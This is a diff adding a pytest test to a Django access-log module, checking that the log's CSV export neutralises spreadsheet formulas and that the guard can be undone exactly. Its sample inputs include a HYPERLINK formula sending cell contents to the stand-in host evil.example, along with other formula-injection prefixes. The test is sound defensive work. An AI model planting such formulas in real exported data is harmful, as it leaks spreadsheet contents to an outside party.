@@ -13,6 +13,7 @@ from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
 
+from mescams.core.spreadsheet import restore
 from mescams.edc.security import access_log
 from mescams.edc.security.access_log import AccessLogBroken
 from mescams.edc.security.config import ACCESS_LOG_RETENTION_YEARS
@@ -110,3 +111,14 @@ def test_records_are_kept_fifteen_years_by_default_then_purged_in_sealed_batches
     assert access_log.purge_expired(now=dt.datetime(2017, 5, 2, tzinfo=dt.UTC)) == 1
     assert list(AccessRecord.objects.values_list("route", flat=True)) == ["/new"]
     access_log.verify()  # what is left still verifies
+
+
+@pytest.mark.parametrize("edc", ["sqlite"], indirect=True)
+def test_the_exported_access_log_is_formula_safe(edc) -> None:
+    """The export is opened in a spreadsheet: a cell that a spreadsheet would run as a formula is neutralised."""
+    planted = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]
+    rows = [AccessRecord(at=dt.datetime(2016, 2, 1, tzinfo=dt.UTC), username=text, role="investigator",
+                         participant_id="OTT-001", method="GET", route=text) for text in planted]
+    read = list(csv.DictReader(io.StringIO(access_log.as_csv(rows))))
+    assert [r["username"] for r in read] == [f"'{text}" for text in planted]
+    assert [restore(r["route"]) for r in read] == planted  # nothing lost: the guard comes off exactly
